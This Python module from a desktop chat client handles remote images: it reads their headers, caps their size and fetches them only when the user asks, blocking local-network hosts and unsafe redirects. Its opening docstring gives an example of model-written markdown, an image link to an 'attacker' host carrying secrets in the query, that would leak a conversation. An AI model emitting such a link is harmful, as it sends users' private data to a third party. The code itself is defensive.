"""Remote images: recognising and measuring the bytes, and fetching them on request.

Rendering never fetches anything (a model-written `![](https://attacker/?q=<secrets>)` would
otherwise leak the conversation the moment it is shown). The UI calls `fetch_image` only after
the user asked to load a message's images, and hands the bytes back to the renderer.
"""

from __future__ import annotations

import http.client
import ssl
import time
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import dataclass
from urllib.parse import urlsplit

from chatdesk.core.errors import ChatdeskError
from chatdesk.core.secrets import is_local_host
from chatdesk.core.trust.links import classify_link

MAX_BYTES = 5_000_000
MAX_PIXELS = 40_000_000  # more would take Qt hundreds of MB to decode
MAX_DISPLAY_WIDTH = 640
_CHUNK = 64 * 1024
_WEB = ("http", "https")
_JPEG_FRAME_MARKERS = frozenset(range(0xC0, 0xD0)) - {0xC4, 0xC8, 0xCC}


class ImageFetchFailed(ChatdeskError):
    """A remote image could not be loaded; the message says why."""


@dataclass(frozen=True)
class ImageInfo:
    kind: str  # "png" | "jpeg" | "gif"
    width: int
    height: int

    def display_size(self) -> tuple[int, int]:
        """Width and height to show it at: no wider than a message column."""
        if self.width <= MAX_DISPLAY_WIDTH:
            return self.width, self.height
        return MAX_DISPLAY_WIDTH, max(1, self.height * MAX_DISPLAY_WIDTH // self.width)


def image_info(data: bytes) -> ImageInfo | None:
    """Kind and pixel size of a PNG, JPEG or GIF Qt can decode; None for anything else, for a
    malformed header and for images too large to decode safely."""
    size = _png_size(data) or _gif_size(data) or _jpeg_size(data)
    if size is None or len(data) > MAX_BYTES:
        return None
    kind, width, height = size
    if not 0 < width * height <= MAX_PIXELS:
        return None
    return ImageInfo(kind, width, height)


def _png_size(data: bytes) -> tuple[str, int, int] | None:
    if not data.startswith(b"\x89PNG\r\n\x1a\n") or data[12:16] != b"IHDR" or len(data) < 24:
        return None
    return "png", int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")


def _gif_size(data: bytes) -> tuple[str, int, int] | None:
    if not data.startswith((b"GIF87a", b"GIF89a")) or len(data) < 10:
        return None
    return "gif", int.from_bytes(data[6:8], "little"), int.from_bytes(data[8:10], "little")


def _jpeg_size(data: bytes) -> tuple[str, int, int] | None:
    """Walks the segments up to the first frame header, which holds the size."""
    if not data.startswith(b"\xff\xd8"):
        return None
    at = 2
    while at + 9 <= len(data):
        if data[at] != 0xFF:
            return None
        marker = data[at + 1]
        if marker == 0xFF:  # fill byte
            at += 1
        elif marker in _JPEG_FRAME_MARKERS:
            height = int.from_bytes(data[at + 5 : at + 7], "big")
            return "jpeg", int.from_bytes(data[at + 7 : at + 9], "big"), height
        elif marker == 0x01 or 0xD0 <= marker <= 0xD7:  # markers without a length
            at += 2
        else:
            at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
    return None


# -- fetching ------------------------------------------------------------------------------------


def fetch_image(
    url: str,
    *,
    max_bytes: int = MAX_BYTES,
    timeout: float = 10.0,
    allow_local_hosts: bool = False,
) -> bytes:
    """The bytes of the PNG, JPEG or GIF at an http(s) `url`. Blocking: call it off the GUI
    thread. No cookies, no Referer; at most 3 redirects, never to another scheme than http(s)
    and never from https down to http. Raises `ImageFetchFailed` on anything wrong.

    Addresses on this computer or the local network are refused, redirects included: the
    address comes from model output, and a GET to a router or a local service can change
    its state. (Decided by name; see `is_local_host`.)"""
    target = classify_link(url)
    if target.kind != "external" or urlsplit(target.url).scheme.lower() not in _WEB:
        raise ImageFetchFailed(f"Images load only from http or https addresses, not {url!r}.")
    _check_host(url, allow_local_hosts)
    request = urllib.request.Request(url, headers=_HEADERS)
    try:
        with _opener(allow_local_hosts).open(request, timeout=timeout) as response:
            data = _read_capped(response, max_bytes, time.monotonic() + timeout)
    except ImageFetchFailed:
        raise
    except urllib.error.HTTPError as error:
        error.close()
        raise ImageFetchFailed(_http_error_message(error, target.host)) from None
    except (OSError, http.client.HTTPException, ValueError) as error:
        raise ImageFetchFailed(f"Could not load the image from {target.host}: {error}.") from None
    if image_info(data) is None:
        raise ImageFetchFailed(f"What {target.host} sent is not a PNG, JPEG or GIF image.")
    return data


def _http_error_message(error: urllib.error.HTTPError, host: str | None) -> str:
    if 300 <= error.code < 400:  # urllib refused the redirect (another scheme, or a loop)
        location = error.headers.get("Location", "")
        return f"The image address redirects to {location!r}; not followed."
    return f"{host} answered {error.code} for the image."


_HEADERS = {"User-Agent": "chatdesk", "Accept": "image/png, image/jpeg, image/gif"}


def _read_capped(response: http.client.HTTPResponse, max_bytes: int, deadline: float) -> bytes:
    declared = response.headers.get("Content-Length", "")
    if declared.isdigit() and int(declared) > max_bytes:
        raise ImageFetchFailed(f"The image is larger than {max_bytes:,} bytes.")
    chunks: list[bytes] = []
    received = 0
    while chunk := response.read(_CHUNK):
        received += len(chunk)
        if received > max_bytes:
            raise ImageFetchFailed(f"The image is larger than {max_bytes:,} bytes.")
        if time.monotonic() > deadline:
            raise ImageFetchFailed("The image took too long to load.")
        chunks.append(chunk)
    return b"".join(chunks)


def _check_host(url: str, allow_local_hosts: bool) -> None:
    host = urlsplit(url).hostname or ""
    if not allow_local_hosts and is_local_host(host):
        raise ImageFetchFailed(
            f"Images from this computer or the local network ({host}) are not loaded: "
            "a message could use them to send requests to devices on your network."
        )


class _WebRedirectsOnly(urllib.request.HTTPRedirectHandler):
    max_redirections = 3

    def __init__(self, allow_local_hosts: bool) -> None:
        super().__init__()
        self._allow_local_hosts = allow_local_hosts

    def redirect_request(
        self,
        req: urllib.request.Request,
        fp: object,
        code: int,
        msg: str,
        headers: http.client.HTTPMessage,
        newurl: str,
    ) -> urllib.request.Request | None:
        old, new = urlsplit(req.full_url).scheme.lower(), urlsplit(newurl).scheme.lower()
        if new not in _WEB or (old, new) == ("https", "http"):
            if isinstance(fp, http.client.HTTPResponse):
                fp.close()  # urllib closes it only when it follows the redirect
            raise ImageFetchFailed(f"The image address redirects to {newurl!r}; not followed.")
        try:
            _check_host(urllib.parse.urljoin(req.full_url, newurl), self._allow_local_hosts)
        except ImageFetchFailed:
            if isinstance(fp, http.client.HTTPResponse):
                fp.close()
            raise
        return super().redirect_request(req, fp, code, msg, headers, newurl)  # type: ignore[arg-type]


def _opener(allow_local_hosts: bool) -> urllib.request.OpenerDirector:
    """Only what an image fetch needs: no file:, ftp: or data: handlers, no cookie jar."""
    opener = urllib.request.OpenerDirector()
    for handler in (
        urllib.request.ProxyHandler(),
        urllib.request.HTTPHandler(),
        urllib.request.HTTPSHandler(context=ssl.create_default_context()),
        _WebRedirectsOnly(allow_local_hosts),
        urllib.request.HTTPDefaultErrorHandler(),
        urllib.request.HTTPErrorProcessor(),
    ):
        opener.add_handler(handler)
    return opener
